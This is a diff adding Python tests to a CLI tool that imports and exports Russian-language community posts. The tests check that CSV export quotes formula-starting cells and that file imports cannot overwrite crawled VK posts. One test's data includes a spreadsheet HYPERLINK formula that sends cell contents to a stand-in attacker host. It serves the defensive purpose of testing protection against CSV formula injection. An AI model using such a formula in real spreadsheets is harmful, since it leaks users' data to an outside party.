@@ -109,6 +109,61 @@ def test_export_round_trips_through_import(cur, tmp_path, db_url):
         assert "новых постов 0" in again.stdout and "уже загруженных 5" in again.stdout, again.stdout + again.stderr
 
 
+def test_export_posts_csv_is_formula_quoted_and_reads_back(cur, tmp_path, db_url):
+    """CSV export quotes formula starts (pipeline.cells); `cur import` undoes the quoting: same posts in a new base."""
+    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+7 999 1+1", "'=уже с апострофом", "'просто апостроф",
+             "-2+3", "@SUM(1)", "Обычный текст"]
+    rows = [post(i, t, author=("=Автор" if i == 1 else f"Житель {i}")) for i, t in enumerate(texts, 1)]
+    f = write_jsonl(tmp_path / "posts.jsonl", rows)
+    assert cur("import", "--quiet", str(f)).returncode == 0
+    before = db_posts(db_url)
+    out = tmp_path / "out.csv"
+    assert cur("export", "posts", "--format", "csv", "--output", str(out)).returncode == 0
+    cells = {r["id"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
+    assert cells["1"]["text"].startswith("'=HYPERLINK") and cells["1"]["author"] == "'=Автор"
+    assert cells["3"]["text"] == "''=уже с апострофом" and cells["4"]["text"] == "'просто апостроф"
+    assert cells["7"]["text"] == "Обычный текст"
+    assert not any(c[:1] in "=+-@" for r in cells.values() for c in r.values() if c)
+    again = cur("import", "--quiet", str(out))
+    assert "изменённых 0" in again.stdout and "уже загруженных 7" in again.stdout, again.stdout + again.stderr
+    assert db_posts(db_url) == before  # not one text or author changed by the round trip
+
+
+def test_file_never_overwrites_a_crawled_vk_post(cur, tmp_path, db_url):
+    """A file line naming a post a VK source collected is refused with a named Russian warning; the crawled text stays."""
+    from datetime import datetime, timezone
+
+    from storage import PostRecord, upsert_posts
+    from storage.sources import get_or_create_source
+
+    db = Database(db_url)
+    with db.session() as s:
+        src, _ = get_or_create_source(s, "vk", "wall", "-100")
+        crawled = PostRecord(platform="vk", source_key="vk:-100", external_id="7", text="Нет отопления на Весенней, 12",
+                             published_at=datetime(2026, 11, 12, tzinfo=timezone.utc))
+        upsert_posts(s, [crawled], source_id=src.id)
+    f = write_jsonl(tmp_path / "spoof.jsonl", [
+        post(1, "Обычное обращение из файла"),
+        {**post(2, "Подменённый текст: всё починили"), "platform": "vk", "source": "vk:-100", "id": "7"},
+        {**post(3, "Новый пост ВКонтакте из файла"), "platform": "vk", "source": "vk:-100", "id": "8"},
+    ])
+    r = cur("import", "--quiet", str(f))
+    assert r.returncode != 0  # a skipped line makes the run partial
+    assert "строка 2, поле «id»: пост '7' источника 'vk:-100' собран из ВКонтакте: файл не может изменить его текст" in r.stderr, r.stderr
+    assert "новых постов 2" in r.stdout and "изменённых 0" in r.stdout and "пропущено строк с ошибками 1" in r.stdout, r.stdout
+    texts = {(p[0], p[2]): p[3] for p in db_posts(db_url)}
+    assert texts[("vk", "7")] == "Нет отопления на Весенней, 12"
+    assert texts[("vk", "8")] == "Новый пост ВКонтакте из файла" and texts[("file", "1")] == "Обычное обращение из файла"
+    with db.session() as s:  # a crawl that later meets the file's vk post takes it over; then files cannot change it either
+        upsert_posts(s, [PostRecord(platform="vk", source_key="vk:-100", external_id="8", text="Новый пост ВКонтакте из файла",
+                                    published_at=datetime(2026, 11, 13, tzinfo=timezone.utc))], source_id=src.id)
+    db.dispose()
+    f2 = write_jsonl(tmp_path / "spoof2.jsonl", [{**post(3, "Снова подмена"), "platform": "vk", "source": "vk:-100", "id": "8"}])
+    r = cur("import", "--quiet", str(f2))
+    assert "строка 1, поле «id»: пост '8'" in r.stderr and "изменённых 0" in r.stdout
+    assert {(p[0], p[2]): p[3] for p in db_posts(db_url)}[("vk", "8")] == "Новый пост ВКонтакте из файла"
+
+
 def test_import_killed_midway_then_rerun_equals_uninterrupted(tmp_path, cur_env, db_url, sqlite_url):
     """kill -9 during a large import, run it again: same database as one clean run."""
     rows = [post(i, f"Обращение номер {i}: не убирают снег во дворе") for i in range(12000)]
